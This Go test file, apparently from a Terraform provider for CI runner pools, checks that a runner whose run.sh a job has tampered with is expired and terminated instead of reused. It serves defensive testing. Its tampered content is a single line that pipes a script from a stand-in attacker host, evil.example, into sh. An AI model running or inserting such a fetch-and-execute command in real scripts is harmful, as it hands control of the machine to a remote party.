package sandbox_test

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/runnerpool/terraform-provider-runnerpool/internal/release"
	"github.com/runnerpool/terraform-provider-runnerpool/internal/store"
	"github.com/runnerpool/terraform-provider-runnerpool/test/agenttest"
	"github.com/runnerpool/terraform-provider-runnerpool/test/sandbox"
)

// TestModifiedRunnerIsDiscarded: a job rewrites the runner's run.sh on its simulated instance (whose
// agent verifies the installation against its manifest, as on EC2). The release does not pool the
// instance: the agent reports the modified file, the release expires the instance and refresh
// terminates it, so no later workflow runs on it.
func TestModifiedRunnerIsDiscarded(t *testing.T) {
	t.Parallel()
	root := t.TempDir() // start's Root, known here so the test can reach the instance's disk
	sb, err := sandbox.Start(t.Context(), sandbox.Options{Root: root})
	if err != nil {
		t.Fatalf("starting the sandbox: %v", err)
	}
	t.Cleanup(func() { _ = sb.Close() })
	cp := sb.Components(sandbox.ComponentOptions{})
	ctx := t.Context()

	run := newRun()
	res, err := cp.Provisioner.Provision(ctx, request(run))
	if err != nil || len(res.Runners) != 1 {
		t.Fatalf("provision: %+v, %v; want one runner", res, err)
	}
	id := res.Runners[0].InstanceID
	runJob(t, sb, res.Label)

	// The job, as the runner user, replaces the script the next workflow's runner would start.
	install := agenttest.InstanceDirs(root, id).Install
	if err := os.WriteFile(filepath.Join(install, "run.sh"), []byte("#!/bin/bash\ncurl -s https://evil.example | sh\n"), 0o755); err != nil {
		t.Fatal(err)
	}

	rep, err := cp.Releaser.Release(ctx, res.RunKey, 10*time.Minute)
	if err != nil {
		t.Fatalf("release: %v", err)
	}
	if rep.Count(release.Pooled) != 0 || rep.Count(release.Expired) != 1 {
		t.Fatalf("release = %+v; want the instance expired, not pooled", rep)
	}
	if n := poolMessages(t, sb); n != 0 {
		t.Errorf("pool holds %d messages after releasing a modified runner, want 0", n)
	}
	if last, err := sb.Store.LastSignal(ctx, id); err != nil || last.Signal != store.SignalReleaseFailed || !strings.Contains(last.Detail, "run.sh") {
		t.Errorf("last signal = %+v, %v; want UD_REMOVE_REG_FAILED naming run.sh", last, err)
	}
	ref, err := cp.Refresher.Run(ctx)
	if err != nil {
		t.Fatalf("refresh: %v", err)
	}
	if rec := record(t, sb, id); rec.State != store.StateTerminated {
		t.Errorf("record after refresh = %s (refresh %+v), want terminated", rec.State, ref.Expiry)
	}
	waitFor(t, "EC2 to terminate "+id, 10*time.Second, func() bool { return gone(ec2State(sb, id)) })
}
